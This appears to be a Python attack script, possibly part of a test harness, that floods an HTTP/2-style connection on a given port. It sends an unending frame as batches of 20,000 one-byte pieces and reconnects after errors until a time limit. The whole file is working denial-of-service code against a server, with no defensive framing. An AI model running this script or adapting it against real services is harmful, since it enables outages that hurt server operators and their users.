"""A frame in parts of one byte each, without end."""

from __future__ import annotations

import time
from collections.abc import Sequence
from pathlib import Path

from .fake_device import FakeDevice, read_words
from .http2 import Link, arguments

__all__ = ["attack"]

AT_ONCE = 20_000


def attack(port: int, keys: Path, name: str, words: list[bytes], seconds: float) -> int:
    """Send parts of one byte for so long once the rows are known; how many bytes went to the server."""
    link = Link(port, keys, name)
    try:
        device, deadline = FakeDevice(link, words, (1, 1, 1)), time.monotonic() + seconds
        if device.go_on("rows", 30):
            while time.monotonic() < deadline and link.say_quickly([b"+x"] * AT_ONCE):
                link.pump(0)
        return link.sent
    finally:
        link.close()


def main(argv: Sequence[str] | None = None) -> None:
    told = arguments(__doc__ or "").parse_args(argv)
    words, deadline = read_words(told.words), time.monotonic() + told.seconds
    while time.monotonic() < deadline:
        try:
            print(attack(told.port, told.keys, told.name, words, deadline - time.monotonic()), flush=True)
        except OSError:
            time.sleep(0.2)


if __name__ == "__main__":
    main()
